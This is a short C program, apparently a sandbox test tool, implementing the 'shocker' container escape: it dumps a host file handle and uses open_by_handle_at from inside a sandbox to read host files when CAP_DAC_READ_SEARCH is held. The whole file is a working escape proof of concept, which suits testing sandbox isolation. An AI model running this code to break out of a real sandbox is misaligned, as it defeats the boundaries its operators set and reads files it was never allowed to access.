/* handle: the "shocker" escape.  `handle dump PATH` prints a file handle
 * (type and bytes in hex) for PATH, as the host sees it; `handle open
 * MOUNTPOINT TYPE HEX` tries open_by_handle_at() with that handle from
 * inside the sandbox and prints what it reads.  Needs
 * CAP_DAC_READ_SEARCH in the initial user namespace to succeed. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct file_handle *fh = malloc(sizeof *fh + MAX_HANDLE_SZ);
	int mount_id, fd, mfd;
	char buf[256];
	ssize_t n;

	fh->handle_bytes = MAX_HANDLE_SZ;
	if (argc == 3 && strcmp(argv[1], "dump") == 0) {
		if (name_to_handle_at(AT_FDCWD, argv[2], fh, &mount_id, 0) < 0) {
			perror("name_to_handle_at");
			return 2;
		}
		printf("%d ", fh->handle_type);
		for (unsigned i = 0; i < fh->handle_bytes; i++)
			printf("%02x", (unsigned char)fh->f_handle[i]);
		printf("\n");
		return 0;
	}
	if (argc != 5 || strcmp(argv[1], "open") != 0)
		return 2;
	fh->handle_type = atoi(argv[3]);
	fh->handle_bytes = strlen(argv[4]) / 2;
	for (unsigned i = 0; i < fh->handle_bytes; i++)
		sscanf(argv[4] + 2 * i, "%2hhx", &fh->f_handle[i]);
	mfd = open(argv[2], O_RDONLY | O_DIRECTORY);
	fd = open_by_handle_at(mfd, fh, O_RDONLY);
	if (fd < 0) {
		printf("open_by_handle_at: %s\n", strerror(errno));
		return 1;
	}
	n = read(fd, buf, sizeof buf - 1);
	buf[n > 0 ? n : 0] = '\0';
	printf("READ: %s\n", buf);
	return 0;
}
